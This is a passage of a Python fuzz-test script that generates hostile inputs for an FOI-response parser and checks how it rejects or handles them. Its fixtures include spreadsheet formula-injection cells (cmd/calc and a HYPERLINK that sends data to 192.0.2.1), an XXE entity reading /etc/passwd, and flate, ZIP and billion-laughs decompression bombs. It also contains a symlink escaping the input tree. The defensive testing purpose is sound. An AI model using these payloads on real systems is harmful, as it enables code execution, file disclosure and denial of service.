"""A corpus of hostile and broken inputs, generated (never checked in), and a check that runs them.

    python fuzz/hostile.py OUT_DIR            # write every kind into OUT_DIR
    python fuzz/hostile.py OUT_DIR --check    # ... then run `foiparse` on each, one line per kind

Each kind says what foiparse must answer: the exit code (and so the error class, see
the README), a piece of the one-line message, and the time it may take. ``--check``
runs each input in a fresh ``foiparse`` process and measures its wall time and the
peak memory of the process tree, then ingests the whole folder beside good responses.
The test suite runs the same check (tests/test_hostile.py).
"""

from __future__ import annotations

import argparse
import gzip
import io
import os
import random
import subprocess
import sys
import time
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
FIXTURES = HERE.parent / "fixtures"
LETTER = FIXTURES / "leicester-data-breaches-2019.txt"
PDF_LETTER = FIXTURES / "pdf-ruled-table-letter.pdf"
HTML_LETTER = FIXTURES / "nested-tables-spans.html"


@dataclass(frozen=True)
class Kind:
    """One hostile input and the answer it must get."""

    name: str  # the file (or directory) name written
    make: Callable[[Path], None]  # writes it at the path given
    exit_code: int  # 0: parsed
    message: str = ""  # a piece of the stderr line
    seconds: float = 10.0  # wall time allowed, process start included
    args: tuple[str, ...] = ()  # extra options before the path; where one holds "{path}", the whole command line
    unprivileged: bool = False  # run without root's power to read anything (setpriv), as a user would
    stdin: bytes = b""  # what the command reads on standard input
    after: Callable[[Path], str | None] | None = None  # a check once it ran: what is wrong, or None
    prefix: tuple[str, ...] = ()  # a command the run goes through (a lower ulimit, say)

    def command(self, path: Path) -> list[str]:
        """The arguments after ``foiparse``: the options and the path, or the template filled in."""
        if any("{path}" in arg for arg in self.args):
            return [arg.replace("{path}", str(path)) for arg in self.args]
        return [*self.args, str(path)]


def _write(data: bytes) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        path.write_bytes(data)

    return write


def _minimal_pdf(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF made of these objects (numbered from 1) with a correct cross-reference table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref))
    return out.getvalue()


def _pages_pdf(count: int) -> bytes:
    """``count`` blank pages."""
    kids = b" ".join(b"%d 0 R" % (3 + i) for i in range(count))
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, count)]
    objects += [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << >> >>"] * count
    return _minimal_pdf(objects)


def _flate_bomb(path: Path) -> None:
    """A one-page PDF whose content stream is 1.5 MB of deflate that inflates to 1.5 GB."""
    block = b" " * (64 * 1024 * 1024)
    packer = zlib.compressobj(9)
    stream = b"".join(packer.compress(block) for _ in range(24)) + packer.flush()
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream) + stream + b"\nendstream",
    ]
    path.write_bytes(_minimal_pdf(objects))


def one_page_pdf(content: bytes, page_extra: bytes = b"", media_box: bytes = b"[0 0 595 842]") -> bytes:
    """A one-page PDF (A4 unless ``media_box``) drawing this content stream, with Helvetica as /F1.

    ``page_extra``: more page keys.
    """
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox " + media_box + b" /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    return _minimal_pdf(objects)


def _text_pdf(lines: list[str]) -> bytes:
    """A one-page PDF with these lines of Helvetica text."""
    content = (
        b"BT /F1 11 Tf 72 770 Td 14 TL "
        + b" ".join(
            b"(" + line.encode("latin-1").replace(b"\\", b"\\\\").replace(b"(", b"\\(").replace(b")", b"\\)") + b") '"
            for line in lines
        )
        + b" ET"
    )
    return one_page_pdf(content)


def _broken_xref(path: Path) -> None:
    """A good letter whose cross-reference table points at the wrong offsets (PDFium rebuilds it)."""
    data = _text_pdf(["Dear Ms Okoro,", "The Council recorded 49 incidents in 2023."])
    head, _, tail = data.partition(b"xref\n")
    table, _, trailer = tail.partition(b"trailer")
    broken = b"\n".join(
        line[:10].replace(b"0", b"9") + line[10:] if line.endswith(b" n ") else line for line in table.split(b"\n")
    )
    path.write_bytes(head + b"xref\n" + broken + b"trailer" + trailer)


def _corrupted_pdf(path: Path) -> None:
    path.write_bytes(b"%PDF-1.7\n" + random.Random(7).randbytes(20_000))


def _truncated_pdf(path: Path) -> None:
    data = PDF_LETTER.read_bytes()
    path.write_bytes(data[: len(data) // 3])


def _encrypted_pdf(path: Path) -> None:
    from reportlab.pdfgen import canvas  # the dev extra

    page = canvas.Canvas(str(path), encrypt="a-secret")
    page.drawString(72, 770, "This response is protected by a password.")
    page.save()


def _no_text_pdf(path: Path) -> None:
    content = b"0.8 g 72 400 450 300 re f"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
    ]
    path.write_bytes(_minimal_pdf(objects))


def _no_pages_pdf(path: Path) -> None:
    path.write_bytes(_minimal_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]))


def _huge_line(path: Path) -> None:
    """200 MB on one line, written in pieces."""
    piece = b"The Council recorded 12 incidents. " * 30_000
    with open(path, "wb") as fh:
        written = 0
        while written < 200 * 1024 * 1024:
            fh.write(piece)
            written += len(piece)


def _zip(members: dict[str, str]) -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as archive:
        for name, text in members.items():
            archive.writestr(zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0)), text)
    return buf.getvalue()


def _symlink_loop(path: Path) -> None:
    other = path.with_name(path.name + ".other")
    path.symlink_to(other)
    other.symlink_to(path)


def _fifo(path: Path) -> None:
    os.mkfifo(path)


def _unreadable(path: Path) -> None:
    path.write_bytes(LETTER.read_bytes())
    path.chmod(0)


def _directory(path: Path) -> None:
    path.mkdir()
    (path / "inside.txt").write_bytes(LETTER.read_bytes())


def _letter() -> bytes:
    return LETTER.read_bytes()


def _ingest_args(db: str = "foi.sqlite") -> tuple[str, ...]:
    return ("ingest", "-q", "{path}/in", "--db", "{path}/" + db)


def _sql(db: Path, query: str, params: tuple[object, ...] = ()) -> list[tuple[object, ...]]:
    import sqlite3

    conn = sqlite3.connect(f"file:{db}?mode=ro", uri=True)
    try:
        return conn.execute(query, params).fetchall()
    finally:
        conn.close()


def _checked(check: Callable[[Path], str | None]) -> Callable[[Path], str | None]:
    """A check after the run that reports a database it cannot read instead of raising."""

    def run(path: Path) -> str | None:
        import sqlite3

        try:
            return check(path)
        except sqlite3.Error as exc:
            return f"cannot check the database: {exc}"

    return run


def _old_database(path: Path) -> None:
    """A letter recorded by foiparse 0.1.0 (schema 1) as skipped, unchanged on disk since."""
    import hashlib
    import sqlite3

    (path / "in").mkdir(parents=True)
    letter = path / "in" / "letter.txt"
    letter.write_bytes(_letter())
    stat = letter.stat()
    with sqlite3.connect(path / "foi.sqlite") as conn:
        conn.executescript(
            "CREATE TABLE documents (id INTEGER PRIMARY KEY, path TEXT NOT NULL UNIQUE, sha256 TEXT, size INTEGER,"
            " mtime_ns INTEGER, parser_version TEXT NOT NULL, format TEXT, status TEXT NOT NULL, error_class TEXT,"
            " error TEXT, authority TEXT, reference TEXT, date TEXT, outcome TEXT, legislation TEXT, request TEXT,"
            " pages INTEGER, seconds REAL, json TEXT, parent TEXT);"
            "CREATE TABLE meta (key TEXT PRIMARY KEY, value TEXT); INSERT INTO meta VALUES ('schema_version', '1');"
        )
        conn.execute(
            "INSERT INTO documents (path, sha256, size, mtime_ns, parser_version, status, error_class, error)"
            " VALUES (?, ?, ?, ?, '0.1.0', 'skipped', 'UnsupportedFormatError', 'not read by this version')",
            (str(letter.resolve()), hashlib.sha256(_letter()).hexdigest(), stat.st_size, stat.st_mtime_ns),
        )
    conn.close()


@_checked
def _reparsed(path: Path) -> str | None:
    rows = _sql(path / "foi.sqlite", "SELECT status, parser_version, json IS NOT NULL FROM documents")
    return None if len(rows) == 1 and rows[0][0] == "ok" and rows[0][2] else f"not parsed again: {rows}"


_ATTACHED = "FOI-2024-0588-response.pdf"


def _attachment_twin(path: Path) -> None:
    """An e-mail with a PDF attached, beside a real file named EMAIL#ATTACHMENT."""
    from email.message import EmailMessage

    (path / "in").mkdir(parents=True)
    message = EmailMessage()
    message["From"] = "FOI Team <foi@harbury.gov.uk>"
    message["To"] = "requester@example.org"
    message["Subject"] = "RE: Freedom of Information request FOI-2024-0588"
    message.set_content(_letter().decode("utf-8"))
    pdf = _text_pdf(["Dear Ms Okoro,", "The Council recorded 49 incidents in 2023."])
    message.add_attachment(pdf, maintype="application", subtype="pdf", filename=_ATTACHED)
    (path / "in" / "reply.eml").write_bytes(bytes(message))
    (path / "in" / f"reply.eml#{_ATTACHED}").write_bytes(_text_pdf(["Dear Sir,", "We hold 12 records."]))
    (path / "in" / "z-after.txt").write_bytes(_letter())


@_checked
def _both_rows(path: Path) -> str | None:
    twin = str((path / "in" / f"reply.eml#{_ATTACHED}").resolve())
    rows = _sql(path / "foi.sqlite", "SELECT attachment IS NULL, status FROM documents WHERE path = ?", (twin,))
    total = _sql(path / "foi.sqlite", "SELECT count(*) FROM documents")[0][0]
    return None if sorted(rows) == [(0, "ok"), (1, "ok")] and total == 4 else f"rows {rows}, {total} in all"


def _many_letters(path: Path) -> None:
    (path / "in").mkdir(parents=True)
    for i in range(300):
        (path / "in" / f"{i:03d}.txt").write_bytes(_letter() + f"\nOur ref: FTS-{i:05d}\n".encode())


@_checked
def _all_indexed(path: Path) -> str | None:
    indexed = _sql(path / "foi.sqlite", "SELECT count(*) FROM document_text")[0][0]
    return None if indexed == 300 else f"{indexed} of 300 documents in the text index"


def _link_out(path: Path) -> None:
    (path / "outside").mkdir(parents=True)
    (path / "outside" / "secret.txt").write_bytes(_letter() + b"\nThe password is SECRETWORD.\n")
    (path / "in").mkdir()
    (path / "in" / "real.txt").write_bytes(_letter())
    os.symlink("../outside/secret.txt", path / "in" / "letter.txt")


@_checked
def _link_not_read(path: Path) -> str | None:
    db = path / "foi.sqlite"
    link = str((path / "in").resolve() / "letter.txt")
    rows = _sql(db, "SELECT status, json IS NULL FROM documents WHERE path = ?", (link,))
    found = _sql(db, "SELECT count(*) FROM document_text WHERE document_text MATCH 'SECRETWORD'")[0][0]
    return None if rows == [("skipped", 1)] and found == 0 else f"link recorded as {rows}, {found} in the index"


def _foreign_db(path: Path) -> None:
    import sqlite3

    (path / "in").mkdir(parents=True)
    (path / "in" / "letter.txt").write_bytes(_letter())
    with sqlite3.connect(path / "theirs.sqlite") as conn:
        conn.executescript(
            "CREATE TABLE documents (id INTEGER PRIMARY KEY, title TEXT); INSERT INTO documents VALUES (1, 'mine');"
        )
    conn.close()
    (path / "theirs.copy").write_bytes((path / "theirs.sqlite").read_bytes())


def _left_alone(path: Path) -> str | None:
    same = (path / "theirs.sqlite").read_bytes() == (path / "theirs.copy").read_bytes()
    return None if same else "another program's database was changed"


def _foreign_view_db(path: Path) -> None:
    """Another program's database holding only a view: no table at all, yet not empty."""
    import sqlite3

    (path / "in").mkdir(parents=True)
    (path / "in" / "letter.txt").write_bytes(_letter())
    with sqlite3.connect(path / "theirs.sqlite") as conn:
        conn.execute("CREATE VIEW totals_v AS SELECT 1 AS x")
    conn.close()
    (path / "theirs.copy").write_bytes((path / "theirs.sqlite").read_bytes())


def _stdin_letter(path: Path) -> None:
    path.write_bytes(_letter())
    (path.parent / (path.name + ".copy")).write_bytes(_letter())


def _stdin_letter_kept(path: Path) -> str | None:
    return (
        None
        if path.read_bytes() == (path.parent / (path.name + ".copy")).read_bytes()
        else "the input was written over"
    )


FORMULA_LETTER = """<html><body><p>Dear Ms Okoro,</p><p>Leicester City Council holds the following.</p>
<table><tr><th>=cmd|' /C calc'!A0</th><th>Count</th><th>Note</th></tr>
<tr><td>=HYPERLINK("http://192.0.2.1/?q="&amp;A1,"click")</td><td>-3</td><td>+cmd|' /C calc'!A0</td></tr>
<tr><td>@SUM(1+1)*cmd|' /C calc'!A0</td><td>-1.5</td><td>\t=1+1</td></tr>
<tr><td>-1+1</td><td>12</td><td>plain</td></tr></table><p>Yours sincerely</p></body></html>"""


def _formula_db(path: Path) -> None:
    """Two letters whose table cells (and a header) start like spreadsheet formulas, ingested."""
    from foiparse.batch import ingest

    (path / "in").mkdir(parents=True)
    (path / "in" / "a.html").write_text(FORMULA_LETTER, encoding="utf-8")
    (path / "in" / "b.html").write_text(FORMULA_LETTER.replace("12", "13"), encoding="utf-8")
    ingest([path / "in"], path / "foi.sqlite", jobs=1, progress=False)
    (path / "foi.copy").write_bytes((path / "foi.sqlite").read_bytes())


def _db_intact(path: Path) -> str | None:
    same = (path / "foi.sqlite").read_bytes() == (path / "foi.copy").read_bytes()
    return None if same else "the database was written over"


def _no_live_formulas(path: Path) -> str | None:
    import csv

    files = sorted((path / "csv").rglob("*.csv"))
    if len(files) != 3:
        return f"expected two tables and one combined CSV, found {[f.name for f in files]}"
    for file in files:
        with open(file, newline="", encoding="utf-8") as fh:
            cells = [cell for row in csv.reader(fh) for cell in row]
        live = [c for c in cells if c.lstrip()[:1] in ("=", "+", "@") or c[:1] in ("\t", "\r")]
        live += [c for c in cells if c.startswith("-") and c not in ("-3", "-1.5")]
        if live or "-3" not in cells:
            return f"{file.name}: formulas left live {live[:3]}, or a number quoted"
    return None


def _letter_intact(path: Path) -> str | None:
    return None if path.read_bytes() == _letter() else "the input was written over"


def _mkdir(path: Path) -> None:
    path.mkdir()


@_checked
def _letter_ingested(path: Path) -> str | None:
    rows: dict[object, object] = {
        row[0]: row[1] for row in _sql(path / "foi.sqlite", "SELECT path, status FROM documents")
    }
    if rows.get(str(LETTER)) != "ok":
        return f"the good path beside it was not ingested: {rows}"
    return None if rows.get("/no/such\\x00dir/letter.txt") == "failed" else f"the NUL path was not recorded: {rows}"


def _response_json(change: Callable[[dict[str, object]], None]) -> Callable[[Path], None]:
    def write(path: Path) -> None:
        import orjson

        from foiparse import parse
        from foiparse.serialize import to_dict

        obj = to_dict(parse(LETTER))
        change(obj)
        path.write_bytes(orjson.dumps(obj))

    return write


def _link_to_dev_zero(path: Path) -> None:
    path.symlink_to("/dev/zero")


def _source_encoding(encoding: str) -> Callable[[dict[str, object]], None]:
    def change(obj: dict[str, object]) -> None:
        source = obj["source"]
        assert isinstance(source, dict)
        source["encoding"] = encoding

    return change


_MANY = 12  # letters in the folder ingested with more workers than open files allow


def _letters(path: Path) -> None:
    (path / "in").mkdir(parents=True)
    for number in range(_MANY):
        (path / "in" / f"many-jobs-letter-{number}.txt").write_bytes(LETTER.read_bytes())


@_checked
def _every_letter_ingested(path: Path) -> str | None:
    rows = _sql(path / "foi.sqlite", "SELECT status, count(*) FROM documents GROUP BY status")
    return None if rows == [("ok", _MANY)] else f"not every letter was ingested: {rows}"


def _pdf_with_runs(runs: bytes) -> bytes:
    """A one-page letter in Helvetica with these extra text objects drawn on it."""
    content = (
        b"BT /F1 11 Tf 72 770 Td (Dear Ms Okoro,) Tj ET "
        b"BT /F1 11 Tf 72 740 Td (The Council recorded 49 incidents in 2023.) Tj ET " + runs
    )
    return one_page_pdf(content)


_WORD_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"


def _word(body: str, main: str = _WORD_MAIN, prolog: str = "") -> bytes:
    """A minimal .docx package whose w:body holds ``body`` (WordprocessingML)."""
    return _zip(
        {
            "[Content_Types].xml": '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org'
            '/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-'
            'package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>',
            "_rels/.rels": '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats'
            '.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
            'officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>',
            "word/document.xml": f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<w:document xmlns:w="http://schemas'
            f'.openxmlformats.org/wordprocessingml/2006/main"><w:body>{body}</w:body></w:document>',
        }
    )


def _para(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _entity_docx(path: Path) -> None:
    """A folder with a .docx whose runs hold an unexpanded entity, a comment and ``&amp;`` before more text."""
    path.mkdir()
    (path / "letter.docx").write_bytes(
        _word(
            _para("The &co; authority <!-- x -->holds 12 files.") + _para("AT&amp;T holds 5."),
            prolog='<!DOCTYPE w:document [<!ENTITY co "Council">]>',
        )
    )


def _entity_text_kept(path: Path) -> str | None:
    out = path / "letter.json"
    text = out.read_text(encoding="utf-8") if out.exists() else ""
    if "holds 12 files." not in text or "AT&T holds 5." not in text:
        return "the text after an entity, a comment or &amp; in a run was lost"
    return "the entity was expanded" if "Council" in text else None


def _lying_docx(path: Path) -> None:
    """A .docx whose document.xml says 1 KB in its ZIP headers and inflates to 300 MB (a comment of spaces)."""
    import struct
    import zipfile

    small = io.BytesIO(_word(_para("Dear Sir,")))
    buf = io.BytesIO()
    with zipfile.ZipFile(small) as src, zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            body = src.read(info)
            if info.filename != "word/document.xml":
                dst.writestr(info.filename, body)
                continue
            head, _, tail = body.partition(b"<w:body>")
            with dst.open(info.filename, "w") as out:
                out.write(head + b"<w:body><!-- ")
                for _ in range(300):
                    out.write(b" " * (1024 * 1024))
                out.write(b" -->" + tail)
    data = bytearray(buf.getvalue())
    for signature, size_at, name_length_at, header in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = data.find(signature)
        while at != -1:
            length = struct.unpack_from("<H", data, at + name_length_at)[0]
            if data[at + header : at + header + length] == b"word/document.xml":
                struct.pack_into("<I", data, at + size_at, 1024)
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))


def zip_with_entries(data: bytes, entries: list[tuple[str, int, int, int, int, int]]) -> bytes:
    """A ZIP with more central-directory entries: (name, local header offset, method, compressed size, size, CRC)."""
    import struct

    end = data.rfind(b"PK\x05\x06")
    count, size, offset = struct.unpack_from("<HII", data, end + 10)
    added = b"".join(
        b"PK\x01\x02"
        + struct.pack("<6H3I5H2I", 20, 20, 0, method, 0, 0x21, crc, packed, unpacked, len(name), 0, 0, 0, 0, 0, at)
        + name.encode()
        for name, at, method, packed, unpacked, crc in entries
    )
    directory = data[offset : offset + size] + added
    total = count + len(entries)
    end_record = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, total, total, len(directory), offset, 0)
    return data[:offset] + directory + end_record


def _docx_one_part_many_entries(path: Path) -> None:
    """A .docx with a 5 MB part named again by 2,000 more ZIP directory entries.

    Each further entry reads the part as deflate that ends at once (0 bytes, as it says),
    the 5 MB after it unused: a reader that copies a part's bytes for each entry copies 10 GB.
    """
    import zipfile

    buf = io.BytesIO(_word(_para("Dear Sir,") + _para("We hold 12 files.")))
    with zipfile.ZipFile(buf, "a") as archive:
        archive.writestr("word/media/blob.bin", b"\x03\x00" + b"\x00" * 5_000_000)  # stored
        blob = archive.getinfo("word/media/blob.bin")
    aliases = [(f"p{i:06d}", blob.header_offset, 8, blob.compress_size, 0, 0) for i in range(2000)]
    path.write_bytes(zip_with_entries(buf.getvalue(), aliases))


def _docx_many_parts(path: Path) -> None:
    """A .docx of 10,001 parts besides its document.xml: each part a ZIP directory entry to parse."""
    path.write_bytes(_zip({**{f"word/part{i}.xml": "<x/>" for i in range(10_001)}, "word/document.xml": "<x/>"}))


def _behind(prefix: bytes) -> bytes:
    """36 KB that lexbor builds 1.9 million elements from, behind markup the tokenizer reads its own way."""
    return b"<p>Reply</p>" + prefix + b"".join(b"<p><b id=%d>x" % i for i in range(2500))


def _unclosed_formatting(tags: int, blocks: int) -> bytes:
    """Formatting elements never closed, then paragraphs: the parser re-creates every one in each paragraph."""
    return b"<html><body><p>" + b"".join(b"<b id=%d>" % i for i in range(tags)) + b"<p>x" * blocks


def _reads_as(name: str, wanted: str) -> Callable[[Path], str | None]:
    """A check that the JSON written for ``name`` holds ``wanted`` and no NUL."""

    def check(path: Path) -> str | None:
        out = path / (Path(name).stem + ".json")
        text = out.read_text(encoding="utf-8") if out.exists() else ""
        if "\\u0000" in text or wanted not in text:
            return f"{name} did not read as text: {text[:120]!r}"
        return None

    return check


def _in_folder(name: str, data: bytes) -> Callable[[Path], None]:
    def make(path: Path) -> None:
        path.mkdir()
        (path / name).write_bytes(data)

    return make


def _mail(headers: bytes, body: bytes) -> bytes:
    return b"From: foi@council.gov.uk\r\nTo: a@example.org\r\nMIME-Version: 1.0\r\n" + headers + b"\r\n\r\n" + body


def _same_name_attachments(count: int) -> bytes:
    part = b'--BB\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; filename="reply.pdf"\r\n\r\nJVBERi0=\r\n'
    body = b"--BB\r\nContent-Type: text/plain\r\n\r\nDear Sir, see attached.\r\n" + part * count + b"--BB--\r\n"
    return _mail(b"Subject: replies\r\nContent-Type: multipart/mixed; boundary=BB", body)


def _long_header(name: bytes, value: bytes) -> bytes:
    """A reply whose one header ``name`` holds ``value`` (the only one of that name)."""
    head = b"From: foi@council.gov.uk\r\nMIME-Version: 1.0\r\nSubject: FOI 1234\r\n"
    if name.lower() != b"to":
        head += b"To: a@example.org\r\n"
    return head + name + b": " + value + b"\r\n\r\nDear Sir, we hold 12 files.\r\n"


def _long_part_headers(count: int, length: int) -> bytes:
    """Parts each with a distinct Content-Disposition of ``length`` characters of dots."""
    parts = b"".join(
        b"--BB\r\nContent-Type: application/pdf\r\nContent-Disposition: attachment; x%d=" % i
        + b" ." * (length // 2)
        + b"\r\n\r\nJVBERi0=\r\n"
        for i in range(count)
    )
    body = b"--BB\r\nContent-Type: text/plain\r\n\r\nDear Sir, see attached.\r\n" + parts + b"--BB--\r\n"
    return _mail(b"Subject: replies\r\nContent-Type: multipart/mixed; boundary=BB", body)


def _reads_with_warning(name: str, wanted: str, code: str) -> Callable[[Path], str | None]:
    """A check that the JSON written for ``name`` holds ``wanted`` and a warning of ``code``."""

    def check(path: Path) -> str | None:
        problem = _reads_as(name, wanted)(path)
        if problem is None and f'"{code}"' not in (path / (Path(name).stem + ".json")).read_text(encoding="utf-8"):
            return f"{name} has no {code} warning"
        return problem

    return check


KINDS: list[Kind] = [
    Kind("empty.txt", _write(b""), 4, "empty input"),
    Kind("whitespace-only.txt", _write(b" \t\r\n" * 1000), 4, "empty input"),
    Kind("bom-only.txt", _write(b"\xef\xbb\xbf"), 4, "empty input"),
    Kind("binary-junk.txt", _write(random.Random(1).randbytes(65_536)), 3, "binary data"),
    Kind("nul-bytes.txt", _write(_letter().replace(b" ", b"\x00", 200)), 3, "unsupported format"),
    Kind("control-characters.txt", _write(bytes(range(1, 9)) * 4000), 3, "binary data"),
    Kind("png-named.txt", _write(b"\x89PNG\r\n\x1a\n" + b"\x00" * 512), 3, "a PNG image"),
    Kind("zip-named.txt", _write(_zip({"xl/workbook.xml": "<workbook/>"})), 3, "ZIP archive"),
    Kind("broken-zip.docx", _write(b"PK\x03\x04" + b"\x00" * 512), 8, "corrupt ZIP"),
    Kind("gzip-named.txt", _write(gzip.compress(b"Dear Sir, " * 100, mtime=0)), 3, "gzip"),
    Kind("pdf-named.html", _write(PDF_LETTER.read_bytes()), 0),
    Kind("html-named.pdf", _write(HTML_LETTER.read_bytes()), 0),
    Kind("truncated.pdf", _truncated_pdf, 8, "corrupt or truncated PDF"),
    Kind("corrupted.pdf", _corrupted_pdf, 8, "corrupt"),
    Kind("broken-xref.pdf", _broken_xref, 0),
    Kind("encrypted.pdf", _encrypted_pdf, 6, "encrypted PDF"),
    Kind("no-text-layer.pdf", _no_text_pdf, 7, "no text layer"),
    Kind("no-pages.pdf", _no_pages_pdf, 8, "corrupt PDF"),
    Kind("blank-2000-pages.pdf", _write(_pages_pdf(2000)), 7, "no text layer", seconds=20),
    Kind("pages-2001.pdf", _write(_pages_pdf(2001)), 9, "too many pages"),
    Kind("flate-bomb.pdf", _flate_bomb, 11, "out of memory", seconds=30),
    Kind(
        "nested-100000-deep.html",
        _write(b"<html><body>" + b"<div>" * 100_000 + b"Dear Sir" + b"</div>" * 100_000 + b"</body></html>"),
        9,
        "nested too deep",
    ),
    Kind("600000-elements.html", _write(b"<html><body><p>Dear Sir,</p>" + b"<b>x</b>" * 600_000), 9, "too many HTML"),
    Kind(
        "colspan-100000.html",
        _write(b'<table><tr><td colspan="100000" rowspan="100000">Dear Sir</td><td>5</td></tr></table>'),
        0,
    ),
    Kind("unclosed-comment.html", _write(b"<html><body><p>Dear Sir, 12 cases.</p><!-- " + b"<div>" * 50_000), 0),
    Kind(
        "script-only.html", _write(b"<html><head><script>" + b"var x = '<div>';" * 5000 + b"</script></head></html>"), 4
    ),
    Kind(
        "external-references.html",
        _write(
            b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><html><head>'
            b'<link rel="stylesheet" href="http://192.0.2.1/a.css"><script src="http://192.0.2.1/a.js"></script></head>'
            b'<body><img src="http://192.0.2.1/a.png"><iframe src="file:///etc/passwd"></iframe>'
            b"<p>Dear Sir, &x; We hold 12 records.</p></body></html>"
        ),
        0,
    ),
    Kind(
        "billion-laughs.xhtml",
        _write(
            b'<?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
            b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>'
            b'<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Dear Sir, &d;&d;&d;&d;</p></body></html>'
        ),
        0,
    ),
    Kind("huge-single-line-200MB.txt", _huge_line, 9, "input too large"),
    Kind(
        "six-million-characters.txt",
        _write(b"Dear Sir,\n" + b"The Council holds 12 files. " * 215_000),
        9,
        "too much text",
    ),
    Kind("invalid-utf8.txt", _write(_letter() + b"\n\xff\xfe\xc3\x28 broken \xe2\x82 bytes\n"), 0),
    Kind("utf16-without-bom.txt", _write(_letter().decode("utf-8").encode("utf-16-le")), 0),
    Kind("utf32-with-bom.txt", _write(_letter().decode("utf-8").encode("utf-32")), 0),
    Kind("directory-given", _directory, 1, "is a directory"),
    Kind("symlink-loop.txt", _symlink_loop, 1, "symbolic links"),
    Kind("named-pipe.txt", _fifo, 1, "not a regular file"),
    Kind("unreadable.txt", _unreadable, 1, "permission denied", unprivileged=True),
    Kind("upgrade-reparses", _old_database, 0, args=_ingest_args(), after=_reparsed),
    Kind("attachment-name-collision", _attachment_twin, 0, args=_ingest_args(), after=_both_rows),
    Kind("fts-index-streams", _many_letters, 0, seconds=60, args=_ingest_args(), after=_all_indexed),
    Kind("symlink-out-of-tree", _link_out, 0, args=_ingest_args(), after=_link_not_read),
    Kind(
        "foreign-sqlite-db",
        _foreign_db,
        1,
        "not a foiparse database",
        args=_ingest_args("theirs.sqlite"),
        after=_left_alone,
    ),
    Kind(
        "output-is-input.txt",
        _write(_letter()),
        2,
        "is also an input",
        args=("{path}", "-o", "{path}"),
        after=_letter_intact,
    ),
    Kind(
        "export-onto-db",
        _formula_db,
        2,
        "is also the database",
        args=("export", "--db", "{path}/foi.sqlite", "--jsonl", "{path}/foi.sqlite"),
        after=_db_intact,
    ),
    Kind(
        "csv-formula-cells",
        _formula_db,
        0,
        args=("export", "-q", "--db", "{path}/foi.sqlite", "--tables", "{path}/csv"),
        after=_no_live_formulas,
    ),
    Kind("newline-\n-and-\x1b[1m-escape-in-name.txt", _write(b""), 4, "newline-\\x0a-and-\\x1b[1m-escape"),
    Kind(
        "nul-in-stdin-list",
        _mkdir,
        1,
        "a NUL byte",
        args=("ingest", "-q", "-", "--db", "{path}/foi.sqlite"),
        stdin=b"/no/such\x00dir/letter.txt\n" + bytes(LETTER) + b"\n",
        after=_letter_ingested,
    ),
    Kind(
        "render-idna-encoding.json",
        _response_json(_source_encoding("idna")),
        14,
        "$.source.encoding is 'idna'",
        args=("render", "{path}"),
    ),
    Kind("timeout-nan.txt", _write(_letter()), 2, "not a number", args=("--timeout", "nan")),
    Kind("max-memory-huge.txt", _write(_letter()), 2, "--max-memory", args=("--max-memory", "99999999999999")),
    Kind(
        "output-dev-full.txt",
        _write(_letter()),
        1,
        "/dev/full: cannot write: No space left on device",
        args=("{path}", "-o", "/dev/full"),
